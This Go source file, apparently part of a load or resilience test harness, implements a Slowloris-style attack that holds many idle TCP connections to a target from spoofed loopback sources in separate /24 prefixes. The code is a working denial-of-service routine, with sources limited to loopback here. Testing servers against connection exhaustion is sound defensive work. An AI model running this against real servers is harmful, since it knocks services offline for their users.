package attack

import (
	"context"
	"net"
	"net/netip"
	"sync"
	"time"
)

// Slowloris holds perSource idle TCP connections to target from each
// address in from, replacing those the server closes, until ctx ends. It
// reports the connections it held at the end and the most it held at once.
func Slowloris(ctx context.Context, target netip.AddrPort, from []netip.Addr, perSource int, b *Bytes) (held, most int) {
	var mu sync.Mutex
	var cur int
	var wg sync.WaitGroup
	for _, src := range from {
		d := net.Dialer{LocalAddr: &net.TCPAddr{IP: src.AsSlice()}}
		for range perSource {
			wg.Add(1)
			go func() {
				defer wg.Done()
				for ctx.Err() == nil {
					c, err := d.DialContext(ctx, "tcp", target.String())
					if err != nil {
						sleep(ctx, 20*time.Millisecond)
						continue
					}
					mu.Lock()
					cur++
					most = max(most, cur)
					mu.Unlock()
					stop := context.AfterFunc(ctx, func() { c.Close() })
					buf := make([]byte, 512)
					for {
						n, err := c.Read(buf)
						if n > 0 && b != nil {
							b.Recv(n)
						}
						if err != nil {
							break
						}
					}
					stop()
					c.Close()
					mu.Lock()
					if ctx.Err() != nil {
						held++
					}
					cur--
					mu.Unlock()
					sleep(ctx, 20*time.Millisecond)
				}
			}()
		}
	}
	wg.Wait()
	return held, most
}

func sleep(ctx context.Context, d time.Duration) {
	t := time.NewTimer(d)
	defer t.Stop()
	select {
	case <-t.C:
	case <-ctx.Done():
	}
}

// Sources returns n loopback addresses in n different /24 prefixes,
// 127.(100+i/256).(i%256).1, none in 127.0.0.0/24 where the legitimate
// client dials from.
func Sources(n int) []netip.Addr {
	out := make([]netip.Addr, n)
	for i := range out {
		out[i] = netip.AddrFrom4([4]byte{127, byte(100 + i/256), byte(i % 256), 1})
	}
	return out
}
